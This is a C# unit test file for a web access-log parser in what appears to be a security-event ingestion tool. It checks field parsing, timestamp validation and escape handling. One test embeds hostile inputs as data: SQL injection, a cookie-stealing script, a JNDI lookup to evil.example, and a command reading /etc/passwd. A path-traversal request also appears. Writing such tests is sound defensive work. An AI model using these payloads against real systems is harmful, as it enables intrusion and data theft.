using Ensuresec.Core.Events;
using Ensuresec.Ingest;

namespace Ensuresec.Tests.Ingest;

public sealed class AccessLogParserTests
{
    private const string Ua = "Mozilla/5.0 (X11; Linux x86_64)";

    private static SecurityEvent Parse(string line, AccessLogFormat? format = null)
    {
        new AccessLogParser(format).TryParse(line, "access.log", 7, out var e, out var error).ShouldBeTrue(error?.ToString());
        return e!;
    }

    private static ParseError Fail(string line, AccessLogFormat? format = null, int maxLength = AccessLogParser.DefaultMaxLineLength)
    {
        new AccessLogParser(format, maxLineLength: maxLength).TryParse(line, "access.log", 7, out var e, out var error).ShouldBeFalse();
        e.ShouldBeNull();
        return error!;
    }

    private static string Combined(string ip = "10.0.0.1", string user = "-", string time = "17/May/2015:10:05:03 +0000",
        string request = "GET /shop/cart?id=3 HTTP/1.1", string status = "200", string bytes = "512", string referrer = "-", string agent = Ua) =>
        $"{ip} - {user} [{time}] \"{request}\" {status} {bytes} \"{referrer}\" \"{agent}\"";

    [Fact]
    public void TryParse_CombinedLine_MapsEveryField()
    {
        var e = Parse(Combined(user: "alice", referrer: "https://shop.example/"));

        e.Id.ShouldBe("access.log:7");
        e.Origin.ShouldBe("access.log:7");
        e.SourceIp.ShouldBe("10.0.0.1");
        e.UserName.ShouldBe("alice");
        e.Timestamp.ShouldBe(new DateTimeOffset(2015, 5, 17, 10, 5, 3, TimeSpan.Zero));
        e.HttpMethod.ShouldBe("GET");
        e.UrlPath.ShouldBe("/shop/cart");
        e.UrlQuery.ShouldBe("id=3");
        e.HttpVersion.ShouldBe("1.1");
        e.StatusCode.ShouldBe(200);
        e.ResponseBytes.ShouldBe(512);
        e.Referrer.ShouldBe("https://shop.example/");
        e.UserAgent.ShouldBe(Ua);
        e.Dataset.ShouldBe("nginx.access");
        e.Outcome.ShouldBe(EventOutcomes.Success);
        e.Extra.ShouldBeNull();
    }

    [Fact]
    public void TryParse_CommonFormat_HasNoReferrerOrAgent()
    {
        var e = Parse("127.0.0.1 - frank [10/Oct/2000:13:55:36 -0700] \"GET /apache_pb.gif HTTP/1.0\" 200 2326", AccessLogFormat.Common);

        e.UserName.ShouldBe("frank");
        e.Timestamp.ShouldBe(new DateTimeOffset(2000, 10, 10, 13, 55, 36, TimeSpan.FromHours(-7)));
        e.Timestamp.Offset.ShouldBe(TimeSpan.FromHours(-7));
        e.ResponseBytes.ShouldBe(2326);
        e.Referrer.ShouldBeNull();
        e.UserAgent.ShouldBeNull();
    }

    [Theory]
    [InlineData("2001:db8::1")]
    [InlineData("::1")]
    [InlineData("fe80::1ff:fe23:4567:890a")]
    public void TryParse_Ipv6Address_IsKept(string ip) => Parse(Combined(ip: ip)).SourceIp.ShouldBe(ip);

    [Theory]
    [InlineData("example.com")]
    [InlineData("-")]
    [InlineData("1.2.3.4.5")]
    public void TryParse_AddressNotAnIp_IsAnError(string ip) => Fail(Combined(ip: ip)).Field.ShouldBe("remote_addr");

    [Fact]
    public void TryParse_DashFields_AreMissing()
    {
        var e = Parse(Combined(bytes: "-", referrer: "-", agent: "-"));

        e.UserName.ShouldBeNull();
        e.ResponseBytes.ShouldBeNull();
        e.Referrer.ShouldBeNull();
        e.UserAgent.ShouldBeNull();
    }

    [Theory]
    [InlineData("404", "failure")]
    [InlineData("500", "failure")]
    [InlineData("302", "success")]
    [InlineData("399", "success")]
    public void TryParse_Status_SetsOutcome(string status, string outcome) => Parse(Combined(status: status)).Outcome.ShouldBe(outcome);

    [Theory]
    [InlineData("abc")]
    [InlineData("2000")]
    [InlineData("")]
    [InlineData("-1")]
    public void TryParse_InvalidStatus_IsAnErrorNamingStatus(string status)
    {
        var error = Fail(Combined(status: status));

        error.Field.ShouldBe("status");
        error.Line.ShouldBe(7);
        error.Column.ShouldNotBeNull();
    }

    [Theory]
    [InlineData("99999999999999999999999")]
    [InlineData("12a")]
    public void TryParse_BadByteCount_IsAnErrorNotAnOverflow(string bytes) => Fail(Combined(bytes: bytes)).Field.ShouldBe("body_bytes_sent");

    [Fact]
    public void TryParse_HugeByteCount_SaysTooLarge() => Fail(Combined(bytes: new string('9', 40))).Reason.ShouldContain("too large");

    [Theory]
    [InlineData("32/May/2015:10:05:03 +0000")]
    [InlineData("29/Feb/2015:10:05:03 +0000")]
    [InlineData("17/Foo/2015:10:05:03 +0000")]
    [InlineData("17/May/2015:24:05:03 +0000")]
    [InlineData("17/May/2015:10:60:03 +0000")]
    [InlineData("17/May/2015:10:05:60 +0000")]
    [InlineData("17/May/2015:10:05:03 +2400")]
    [InlineData("17/May/2015:10:05:03 +0060")]
    [InlineData("17/May/0000:10:05:03 +0000")]
    [InlineData("01/Jan/0001:00:00:00 +0100")]
    [InlineData("31/Dec/9999:23:59:59 -0100")]
    [InlineData("17/May/2015:10:05:03")]
    [InlineData("17/May/2015 10:05:03 +0000")]
    [InlineData("1x/May/2015:10:05:03 +0000")]
    public void TryParse_BadTimestamp_IsAnErrorNamingTimeLocal(string time) => Fail(Combined(time: time)).Field.ShouldBe("time_local");

    [Fact]
    public void TryParse_LeapDay_IsAccepted() =>
        Parse(Combined(time: "29/Feb/2016:23:59:59 +1400")).Timestamp.ShouldBe(new DateTimeOffset(2016, 2, 29, 23, 59, 59, TimeSpan.FromHours(14)));

    [Fact]
    public void TryParse_TruncatedUserAgent_IsAnErrorNamingTheField()
    {
        string line = Combined();
        var error = Fail(line[..^1]);

        error.Field.ShouldBe("http_user_agent");
        error.Reason.ShouldContain("never closed");
    }

    [Theory]
    [InlineData(10)]
    [InlineData(30)]
    [InlineData(60)]
    [InlineData(75)]
    public void TryParse_LineCutAnywhere_IsAnErrorNeverAThrow(int length) => Fail(Combined()[..length]).Line.ShouldBe(7);

    [Fact]
    public void TryParse_LineOverTheLimit_IsAnError()
    {
        string line = Combined(agent: new string('a', 200));

        var error = Fail(line, maxLength: 100);

        error.Field.ShouldBe("line");
        error.Reason.ShouldContain("over the limit of 100");
    }

    [Fact]
    public void TryParse_EscapedQuotesInAgent_AreUnescaped()
    {
        Parse(Combined(agent: "curl \\\"quoted\\\" \\\\ end")).UserAgent.ShouldBe("curl \"quoted\" \\ end");
        Parse(Combined(agent: "nginx \\x22quoted\\x22")).UserAgent.ShouldBe("nginx \"quoted\"");
    }

    [Fact]
    public void TryParse_StrayQuoteInsideAgent_IsKept() =>
        Parse(Combined(agent: "evil\" agent")).UserAgent.ShouldBe("evil\" agent");

    [Fact]
    public void TryParse_BracketsInsideFields_AreKept()
    {
        var e = Parse(Combined(request: "GET /a]b[c HTTP/1.1", agent: "Opera/9.80 [en] (x)", user: "bob[1]"));

        e.UrlPath.ShouldBe("/a]b[c");
        e.UserAgent.ShouldBe("Opera/9.80 [en] (x)");
        e.UserName.ShouldBe("bob[1]");
    }

    [Fact]
    public void TryParse_HexEscapes_DecodeValidUtf8AndKeepTheRestVerbatim()
    {
        Parse(Combined(referrer: "http://caf\\xC3\\xA9/")).Referrer.ShouldBe("http://café/");
        Parse(Combined(referrer: "http://\\xe4\\xe5-x/")).Referrer.ShouldBe("http://\\xe4\\xe5-x/");
        Parse(Combined(agent: "a\\x0Ab")).UserAgent.ShouldBe("a\\x0Ab");
    }

    [Theory]
    [InlineData("' OR 1=1 --")]
    [InlineData("<script>alert(document.cookie)</script>")]
    [InlineData("${jndi:ldap://evil.example/a}")]
    [InlineData("; cat /etc/passwd")]
    public void TryParse_HostilePayloads_SurviveVerbatimAsData(string payload)
    {
        var e = Parse(Combined(request: $"GET /search?q={payload.Replace(" ", "%20", StringComparison.Ordinal)} HTTP/1.1", agent: payload, referrer: payload));

        e.UserAgent.ShouldBe(payload);
        e.Referrer.ShouldBe(payload);
        e.UrlQuery.ShouldBe("q=" + payload.Replace(" ", "%20", StringComparison.Ordinal));
    }

    [Fact]
    public void TryParse_TraversalPath_IsKeptVerbatim() =>
        Parse(Combined(request: "GET /../../etc/passwd HTTP/1.1")).UrlPath.ShouldBe("/../../etc/passwd");

    [Fact]
    public void TryParse_EmptyQuery_IsEmptyNotMissing() => Parse(Combined(request: "GET /a? HTTP/1.1")).UrlQuery.ShouldBe("");

    [Fact]
    public void TryParse_RequestWithoutProtocol_HasMethodAndPath()
    {
        var e = Parse(Combined(request: "GET /old"));

        e.HttpMethod.ShouldBe("GET");
        e.UrlPath.ShouldBe("/old");
        e.HttpVersion.ShouldBeNull();
    }

    [Fact]
    public void TryParse_NonHttpRequest_IsKeptInExtra()
    {
        var e = Parse(Combined(request: "\\x16\\x03\\x01\\x02\\x00\\x01", status: "400"));

        e.HttpMethod.ShouldBeNull();
        e.UrlPath.ShouldBeNull();
        e.Extra!["request"]!.GetValue<string>().ShouldBe("\\x16\\x03\\x01\\x02\\x00\\x01");
        e.Outcome.ShouldBe(EventOutcomes.Failure);
    }

    [Fact]
    public void TryParse_TextAfterTheLastField_IsAnError() => Fail(Combined() + " trailing").Field.ShouldBe("http_user_agent");

    [Fact]
    public void TryParse_SameLineTwice_GivesEqualEvents()
    {
        var parser = new AccessLogParser();
        parser.TryParse(Combined(), "f", 1, out var a, out _).ShouldBeTrue();
        parser.TryParse(Combined(), "f", 1, out var b, out _).ShouldBeTrue();

        a.ShouldBe(b);
    }
}
